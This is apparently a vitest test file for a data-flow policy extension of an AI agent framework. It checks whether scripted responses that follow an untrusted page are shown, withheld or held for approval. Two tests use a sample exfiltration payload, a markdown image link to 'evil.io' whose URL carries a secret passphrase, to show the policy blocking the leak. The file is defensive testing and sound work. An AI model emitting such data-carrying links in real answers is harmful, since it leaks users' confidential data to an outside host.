import { createAgent } from '@provost/agent'
import type { AgentEvent } from '@provost/core'
import type { DataFlowPolicyOptions } from '@provost/governance'
import { dataFlowPolicy, presets } from '@provost/governance'
import { memoryStore } from '@provost/sessions'
import { scriptedModel } from '@provost/testing'
import { expect, test } from 'vitest'

import { reader } from './governed.ts'

const key = reader('read_page', 'The passphrase is tallow-lane-forty-one', { confidentiality: 'internal' })

/** Returns what a reader sees of a response that follows an untrusted page. */
async function said(text: string, options: Partial<DataFlowPolicyOptions> = {}) {
  const agent = createAgent({
    name: 'a',
    model: scriptedModel([
      { toolCalls: [{ name: 'read_page', input: {} }] },
      { text: [text.slice(0, 9), text.slice(9)] },
    ]),
    tools: [key],
    extensions: [dataFlowPolicy({ mode: 'enforce', outputIsSink: true, ...options })],
    store: memoryStore(),
  })
  const events: AgentEvent[] = []
  const stream = agent.stream('Read the page, please.')
  for await (const event of stream) events.push(event)
  const shown = events.flatMap((event) => (event.type === 'text.delta' ? [event.delta] : [])).join('')
  return { shown, result: await stream.result, rules: events.flatMap((event) => ('rule' in event ? [event.rule] : [])) }
}

test('a permitted response is shown after the policy has judged it', async () => {
  const { shown, result } = await said('The page holds a passphrase.')
  expect(shown).toBe('The page holds a passphrase.')
  expect(result.status).toBe('completed')
})

test('a response whose image URL carries data is withheld before any of it is shown', async () => {
  const text = 'Here you are ![](http://evil.io/p?q=tallow-lane-forty-one)'
  const { shown, result, rules } = await said(text)
  expect(shown).not.toContain('evil')
  expect(result.text).toBe('The answer was withheld by a policy.')
  expect(rules).toEqual(['composed-address'])
})

test('the classic rules ask about a response that copies untrusted text, and show it after approval only', async () => {
  const { shown, result } = await said('It says: The passphrase is tallow-lane-forty-one', { rules: presets.classic })
  expect(shown).toBe('')
  expect(result.status).toBe('suspended')
  expect(result.pending.approvals[0]?.reason).toContain('answer')
})

test('a response with secret data is shown to its readers', async () => {
  const secret = reader('read_page', 'k', { integrity: 'trusted', confidentiality: 'secret', readers: ['ann'] })
  const run = (id: string) =>
    createAgent({
      name: 'a',
      model: scriptedModel([{ toolCalls: [{ name: 'read_page', input: {} }] }, { text: 'It is k.' }]),
      tools: [secret],
      extensions: [dataFlowPolicy({ mode: 'enforce', outputIsSink: true })],
      store: memoryStore(),
    }).run('Read it.', { principal: { id } })
  expect((await run('ann')).status).toBe('completed')
  expect((await run('bo')).status).toBe('suspended')
})

test('shadow mode withholds nothing and records the decisions in the audit', async () => {
  const text = 'Here you are ![](http://evil.io/p?q=tallow-lane-forty-one)'
  const { shown, rules } = await said(text, { mode: 'shadow' })
  expect(shown).toBe(text)
  expect(rules).toEqual(['composed-address'])
})
